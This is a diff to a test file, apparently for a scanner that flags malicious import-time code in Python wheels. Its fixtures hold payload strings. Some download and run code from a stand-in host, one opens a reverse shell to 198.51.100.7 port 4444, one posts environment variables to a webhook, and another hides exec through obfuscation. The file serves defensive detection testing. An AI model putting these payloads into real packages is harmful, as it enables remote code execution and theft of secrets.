@@ -58,6 +58,9 @@ describe('a wheel whose import-time code is the payload', () => {
     ['a downloaded script run', editedFlask(append('import urllib.request as _u\n_c = _u.urlopen("https://x.example/s").read()\nexec(_c)')), 'download-and-run', 10],
     ['a reverse shell', editedFlask(append('import socket, os, pty\n_s = socket.socket()\n_s.connect(("198.51.100.7", 4444))\nos.dup2(_s.fileno(), 0)\npty.spawn("/bin/sh")')), 'reverse-shell', 0],
     ['the environment posted to a webhook', editedFlask(append('import os, requests\nrequests.post("https://discord.com/api/webhooks/1/x", json=dict(os.environ))')), 'exfiltration', 0],
+    ['a download saved through a helper\'s parameter and started', editedFlask(append('import os as _o\nfrom urllib.request import urlretrieve as _g\ndef _fetch(url, dest):\n    _g(url, dest)\n_p = _o.path.join(_o.path.expanduser("~"), ".cache", "u.bin")\n_fetch("https://x.example/u", _p)\n_o.startfile(_p) if _o.name == "nt" else _o.system(_p)')), 'download-and-run', 10],
+    ['a helper returning the payload under an imported name', editedFlask(append('import requests as _r, subprocess as _s\ndef _stage(u): return _r.get(u).content\n_m = "wb"\nwith open("/tmp/.s", _m) as _f:\n    _f.write(_stage("https://x.example/s"))\n_s.Popen(["/tmp/.s"])')), 'download-and-run', 10],
+    ['exec taken out of the builtins\' dictionary', editedFlask(append('vars(__builtins__)["exec"]("import os")')), 'obfuscation', 10],
     ['a payload after padding', editedFlask(append(`${'eval("1")\n'.repeat(MAX_CALLS + 1)}import base64\nexec(base64.b64decode("eA=="))`)), 'padded', 10],
   ] as const)('%s: flagged, the verdict held at CAUTION', { timeout: CLI_TEST_TIMEOUT_MS }, async ([, wheel, flag, score], { task, expect }) => {
     noteCases(task);
